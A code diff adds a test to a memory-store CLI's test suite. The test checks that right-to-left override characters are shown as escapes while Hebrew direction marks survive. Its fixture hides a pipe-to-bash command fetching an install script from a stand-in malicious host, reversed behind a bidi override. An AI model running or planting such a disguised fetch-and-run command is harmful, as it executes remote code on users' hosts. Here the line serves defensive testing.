@@ -97,6 +97,21 @@ def test_cli_output_shows_control_sequences_as_escapes(tmp_path):
         assert "\\x1b" in shown.stdout.replace("\n", "").replace("│", "").replace(" ", "") or args[0] == "search"
 
 
+def test_cli_output_shows_bidi_overrides_as_escapes_and_keeps_direction_marks(tmp_path):
+    """A right-to-left override makes the rest of its line display reversed: shown as an escape,
+    the memory reads as stored. The marks Arabic and Hebrew text is written with stay."""
+    from kenning import open_store
+
+    with open_store(tmp_path / "s") as store:
+        mid = store.write("kiwi deploy: run \u202ehs.llatsni/moc.live//:sptth | hsab\u202c on each host", scopes=["ops"]).id
+        hebrew = store.write("The kiwi cluster greets in Hebrew: שלום\u200f world", scopes=["ops"]).id
+    for args in (["show", mid], ["search", "kiwi deploy", "--mode", "bm25"], ["list"]):
+        shown = run_cli(tmp_path, *args)
+        assert shown.returncode == 0, shown.stderr
+        assert "\u202e" not in shown.stdout and "\\u202e" in shown.stdout
+    assert "\u200f" in run_cli(tmp_path, "show", hebrew).stdout
+
+
 def test_help_names_what_every_public_method_raises():
     """help(Store.search) named no exception: a caller learnt of InvalidInput, NotFound or
     SearchDisabled by meeting them. Every entry point's docstring now ends with the errors it raises,
